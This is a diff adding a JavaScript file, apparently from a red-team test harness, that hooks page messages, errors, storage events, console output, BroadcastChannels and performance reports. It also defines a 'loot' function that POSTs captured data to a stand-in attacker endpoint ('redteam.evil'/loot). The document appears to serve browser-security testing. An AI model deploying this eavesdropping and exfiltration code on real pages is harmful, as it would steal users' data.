@@ -1,0 +1,54 @@
+// What any script of the page could keep an eye on without breaking anything: kept in `redteam.heard`, where the collector
+// finds it among the globals. Runs before the attacker's own script and before the application.
+{
+  const { redteam } = globalThis;
+  redteam.heard = [];
+  redteam.looted = [];
+  const hear = (value) => void (redteam.heard.length < 2000 && redteam.heard.push(value));
+  const { fetch } = globalThis;
+
+  /** Sends home what was taken. */
+  redteam.loot = (value) => {
+    let text;
+    try {
+      text = typeof value === "string" ? value : (JSON.stringify(value) ?? String(value));
+    } catch {
+      text = String(value);
+    }
+    redteam.looted.push(text);
+    fetch
+      .call(globalThis, `${redteam.evil}/loot`, {
+        method: "POST",
+        mode: "no-cors",
+        body: text.slice(0, 50_000),
+      })
+      .catch(() => {});
+  };
+
+  const deep = { capture: true };
+  addEventListener("message", ({ data, origin, ports }) => hear([origin, data, ports.length]), deep);
+  addEventListener("error", ({ message, error }) => hear([message, error?.stack]), deep);
+  addEventListener("unhandledrejection", ({ reason }) => hear([String(reason), reason?.stack, reason]), deep);
+  addEventListener("storage", ({ key, newValue }) => hear([key, newValue]), deep);
+  addEventListener("securitypolicyviolation", ({ blockedURI, sample }) => hear([blockedURI, sample]), deep);
+  for (const name of redteam.channels ?? [])
+    new BroadcastChannel(name).onmessage = ({ data }) => hear([name, data]);
+  for (const name of ["debug", "error", "info", "log", "trace", "warn"]) {
+    const own = console[name];
+    console[name] = (...values) => {
+      hear(values.map(String));
+      own.apply(console, values);
+    };
+  }
+  if (typeof PerformanceObserver === "function") {
+    new PerformanceObserver((list) =>
+      list.getEntries().forEach((entry) => hear(JSON.stringify(entry))),
+    ).observe({
+      type: "resource",
+      buffered: true,
+    });
+  }
+  if (typeof ReportingObserver === "function") {
+    new ReportingObserver((reports) => reports.forEach((report) => hear(JSON.stringify(report)))).observe();
+  }
+}
